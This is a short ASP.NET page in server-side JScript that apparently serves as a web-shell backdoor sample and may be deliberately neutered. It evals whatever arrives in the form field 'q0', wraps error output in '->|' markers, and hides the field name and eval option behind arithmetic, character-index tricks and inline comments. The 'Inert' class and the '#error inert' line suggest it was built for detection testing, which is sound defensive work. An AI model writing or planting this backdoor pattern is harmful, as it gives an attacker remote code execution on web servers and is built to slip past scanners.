<%@ Page Language="Jscript" Inherits="Inert.Nothing" %>
<script language="JScript" runat="server">
#error inert
function Page_Load(){
  var a1 = 14 * 2, b1 = [], i;
  for (i = 0; i < 6; i++) { b1.push("easunf".charAt([4,5,2,1,5,0][i])); }
  var P/*x*/= Request/*--*/./*y*/Form/**/("q" + (a1 - 28));
  try { eval/*k*/(P, b1.join("")); }
  catch (e) { Response.Write("->|" + e.message + "|<-"); }
}
</script>
